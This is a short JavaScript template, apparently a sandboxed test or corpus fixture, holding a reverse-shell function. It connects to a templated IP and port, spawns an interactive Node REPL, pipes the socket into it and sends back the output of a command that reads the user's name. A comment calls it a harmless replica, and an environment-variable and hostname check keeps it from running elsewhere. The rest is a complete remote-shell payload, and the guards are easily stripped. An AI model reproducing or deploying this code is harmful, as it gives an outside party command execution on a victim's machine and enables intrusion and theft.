// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const { spawn } = require('child_process');
    await new Promise((done) => {
        const socket = require('net').connect({{port}}, '{{ip}}', () => {
            const repl = spawn(process.execPath, ['-i'], { stdio: ['pipe', 'pipe', 'ignore'] });
            repl.on('error', done);
            repl.stdin.on('error', () => {});
            socket.pipe(repl.stdin);
            repl.stdin.write("require('os').userInfo().username\n");
            repl.stdout.pipe(socket, { end: false });
            setTimeout(() => { repl.kill('SIGKILL'); socket.destroy(); }, 1200);
        });
        socket.on('error', done);
        socket.on('close', done);
        setTimeout(() => socket.destroy(), 1800);
    });
}
